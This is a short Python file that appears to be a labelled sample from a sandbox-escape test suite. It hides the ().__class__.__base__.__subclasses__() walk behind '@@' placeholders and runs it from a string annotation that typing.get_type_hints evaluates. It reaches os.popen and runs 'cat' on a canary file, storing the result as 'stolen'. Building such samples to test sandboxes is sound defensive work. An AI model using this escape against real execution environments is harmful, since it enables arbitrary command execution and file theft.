# class: subclass_walk
# technique: the classic ().__class__.__base__.__subclasses__() walk as source text (@@ for the underscores) executed from a string annotation that typing.get_type_hints evaluates
# goal: exec
import typing

import numpy as np
import pandas as pd

source = """
wc = [c for c in ().@@class@@.@@base@@.@@subclasses@@() if c.@@name@@ == '_wrap_close'][0]
out = wc.@@init@@.@@globals@@['popen'](cmd).read()
""".replace("@@", "_" * 2)
scope = {"cmd": "cat {{CANARY_FILE}}"}


def cell(x: "[exec(source, scope), int][-1]"):
    return x


typing.get_type_hints(cell)
df = pd.DataFrame({"stolen": [scope["out"]]})
